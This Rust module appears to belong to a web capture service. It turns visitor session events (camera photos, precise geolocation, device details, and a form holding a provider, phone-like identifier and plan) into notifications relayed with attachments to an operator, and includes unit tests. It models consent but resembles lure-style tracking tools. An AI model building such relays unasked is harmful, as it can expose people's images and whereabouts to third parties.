//! Relay forwarding: turn session events into notifications for the destination
//!
//! Handlers push a [`RelayEvent`] onto a bounded queue through a
//! [`RelayHandle`]; a single [`RelayForwarder`] task formats each event and
//! hands it to a [`DeliverySink`], retrying with backoff before dead-lettering.

mod config;
mod forwarder;
mod sink;

use chrono::{DateTime, Utc};
use serde::Serialize;

use crate::capture::{CaptureEvent, LocationReport};
use crate::session::Session;

pub use config::{RelayConfig, SinkKind};
pub use forwarder::{
    DeadLetter, DeadLetters, RelayForwarder, RelayHandle, RelayStats, RelayStatsSnapshot,
};
pub use sink::{DeliverySink, LogSink, MemorySink, WebhookSink};

/// A callback that was applied to a session, with the post-update snapshot
#[derive(Debug, Clone)]
pub struct RelayEvent {
    pub session: Session,
    pub event: CaptureEvent,
    pub at: DateTime<Utc>,
}

impl RelayEvent {
    pub fn new(session: Session, event: CaptureEvent) -> Self {
        Self {
            session,
            event,
            at: Utc::now(),
        }
    }
}

/// Binary payload carried alongside a notification
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Attachment {
    pub mime: String,
    pub filename: String,
    #[serde(skip)]
    pub bytes: Vec<u8>,
}

/// A formatted message ready for delivery
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Notification {
    pub destination: String,
    pub session_id: String,
    pub kind: String,
    pub text: String,
    pub attachment: Option<Attachment>,
}

fn describe_location(report: &LocationReport) -> String {
    match report {
        LocationReport::Fix {
            latitude,
            longitude,
            accuracy,
            ..
        } => format!("{:.5}, {:.5} (±{:.0} m)", latitude, longitude, accuracy),
        LocationReport::Failed { error, code, .. } => match code {
            Some(code) => format!("unavailable: {} (code {})", error, code),
            None => format!("unavailable: {}", error),
        },
    }
}

/// Compose the notification for an event
///
/// The text combines the event's own data with every field the session has
/// accumulated so far, so the result does not depend on callback order.
pub fn format_notification(relay: &RelayEvent) -> Notification {
    let session = &relay.session;
    let mut lines = vec![format!(
        "[{}] session {}",
        relay.event.kind(),
        session.id()
    )];
    let mut attachment = None;

    match &relay.event {
        CaptureEvent::Consent { accepted: true } => {
            lines.push("Visitor agreed to share data.".to_string());
        }
        CaptureEvent::Consent { accepted: false } => {
            lines.push("Visitor declined to share data.".to_string());
        }
        CaptureEvent::Photo(photo) => {
            lines.push(format!(
                "Photo received: {}, {} bytes{}",
                photo.mime,
                photo.bytes.len(),
                photo
                    .attempt
                    .as_deref()
                    .map(|a| format!(", attempt {}", a))
                    .unwrap_or_default()
            ));
            let extension = photo.mime.trim_start_matches("image/");
            attachment = Some(Attachment {
                mime: photo.mime.clone(),
                filename: format!("{}-{}.{}", session.id(), session.photos_received, extension),
                bytes: photo.bytes.clone(),
            });
        }
        CaptureEvent::DeviceInfo(_) => {
            lines.push("Device info shared.".to_string());
        }
        CaptureEvent::Location(report) => {
            lines.push(format!("Location {}", describe_location(report)));
        }
        CaptureEvent::Submit(_) => {
            lines.push("Form submitted.".to_string());
        }
        CaptureEvent::Withdraw => {
            lines.push("Visitor withdrew; stored answers were cleared.".to_string());
        }
    }

    if let Some(provider) = &session.last_provider {
        lines.push(format!("Provider: {}", provider));
    }
    if let Some(identifier) = &session.last_identifier {
        lines.push(format!("Identifier: {}", identifier));
    }
    if let Some(plan) = &session.last_plan {
        lines.push(format!("Plan: {}", plan));
    }
    if let Some(location) = &session.location {
        lines.push(format!("Location: {}", describe_location(location)));
    }
    if let Some(info) = &session.device_info {
        for (key, value) in info {
            let value = value
                .as_str()
                .map(str::to_string)
                .unwrap_or_else(|| value.to_string());
            lines.push(format!("Device {}: {}", key, value));
        }
    }
    if session.photos_received > 0 {
        lines.push(format!("Photos received: {}", session.photos_received));
    }
    lines.push(format!("At: {}", relay.at.to_rfc3339()));

    Notification {
        destination: session.destination().to_string(),
        session_id: session.id().to_string(),
        kind: relay.event.kind().to_string(),
        text: lines.join("\n"),
        attachment,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture::{DeviceInfo, Photo, Submission};
    use crate::session::{Destination, ReplayPolicy, SessionId};

    fn consented() -> Session {
        let mut session = Session::new(SessionId::generate(), Destination::new("op-9").unwrap());
        session
            .apply(
                &CaptureEvent::Consent { accepted: true },
                ReplayPolicy::Allow,
                Utc::now(),
            )
            .unwrap();
        session
    }

    fn apply(session: &mut Session, event: &CaptureEvent) {
        session.apply(event, ReplayPolicy::Allow, Utc::now()).unwrap();
    }

    #[test]
    fn photo_notification_includes_earlier_submission() {
        let mut session = consented();
        apply(
            &mut session,
            &CaptureEvent::Submit(Submission {
                provider: "south".into(),
                identifier: "9876543210".into(),
                plan: "50".into(),
            }),
        );
        let photo = CaptureEvent::Photo(Photo {
            mime: "image/jpeg".into(),
            bytes: vec![1, 2, 3],
            attempt: Some("main".into()),
            timestamp: None,
        });
        apply(&mut session, &photo);

        let notification = format_notification(&RelayEvent::new(session.clone(), photo));
        assert_eq!(notification.destination, "op-9");
        assert_eq!(notification.kind, "photo");
        assert!(notification.text.contains("3 bytes, attempt main"));
        assert!(notification.text.contains("Provider: south"));
        assert!(notification.text.contains("Plan: 50"));
        let attachment = notification.attachment.unwrap();
        assert_eq!(attachment.bytes, vec![1, 2, 3]);
        assert!(attachment.filename.ends_with(".jpeg"));
    }

    #[test]
    fn submit_notification_includes_location() {
        let mut session = consented();
        apply(
            &mut session,
            &CaptureEvent::Location(LocationReport::Fix {
                latitude: 28.6,
                longitude: 77.2,
                accuracy: 10.0,
                altitude: None,
                heading: None,
                speed: None,
                timestamp: None,
            }),
        );
        let submit = CaptureEvent::Submit(Submission {
            provider: "north".into(),
            identifier: "9876543210".into(),
            plan: "10".into(),
        });
        apply(&mut session, &submit);

        let text = format_notification(&RelayEvent::new(session, submit)).text;
        assert!(text.contains("Location: 28.60000, 77.20000"));
        assert!(text.contains("Identifier: 9876543210"));
    }

    #[test]
    fn failed_location_is_described() {
        let mut session = consented();
        let failed = CaptureEvent::Location(LocationReport::Failed {
            error: "User denied Geolocation".into(),
            code: Some(1),
            timestamp: None,
        });
        apply(&mut session, &failed);

        let text = format_notification(&RelayEvent::new(session, failed)).text;
        assert!(text.contains("unavailable: User denied Geolocation (code 1)"));
    }

    #[test]
    fn device_info_values_are_listed() {
        let mut session = consented();
        let mut info = DeviceInfo::new();
        info.insert("language".into(), "en-GB".into());
        info.insert("screen_width".into(), 1280.into());
        let event = CaptureEvent::DeviceInfo(info);
        apply(&mut session, &event);

        let text = format_notification(&RelayEvent::new(session, event)).text;
        assert!(text.contains("Device language: en-GB"));
        assert!(text.contains("Device screen_width: 1280"));
    }
}
